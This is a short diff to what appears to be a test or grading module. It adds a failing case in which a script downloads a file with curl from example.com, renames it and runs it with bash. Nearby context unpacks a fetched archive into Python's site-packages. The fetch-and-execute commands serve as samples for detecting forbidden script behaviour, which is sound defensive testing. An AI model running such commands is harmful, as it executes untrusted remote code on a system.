@@ -161,6 +161,16 @@ def fail_fetched_program(data: dict[str, Any]) -> str:
     return _script_adds(data, fetched)
 
 
+def fail_fetched_renamed(data: dict[str, Any]) -> str:
+    """8-10 (E8): the script saves what a URL serves under one name and runs it under another:
+    the renamed file is still the fetched program."""
+    fetched = (
+        "curl -fsSL -o /tmp/notes.txt https://example.com/tune-engine.txt\n"
+        "mv /tmp/notes.txt /tmp/tune.sh\nbash /tmp/tune.sh\n"
+    )
+    return _script_adds(data, fetched)
+
+
 def fail_engine_unpacked(data: dict[str, Any]) -> str:
     """10 (E8): an archive unpacked into the installed engine's site-packages (`tar -C`)."""
     unpacked = "curl -fsSL https://example.com/v.tgz | tar -xz -C /usr/local/lib/python3.12/dist-packages\n"
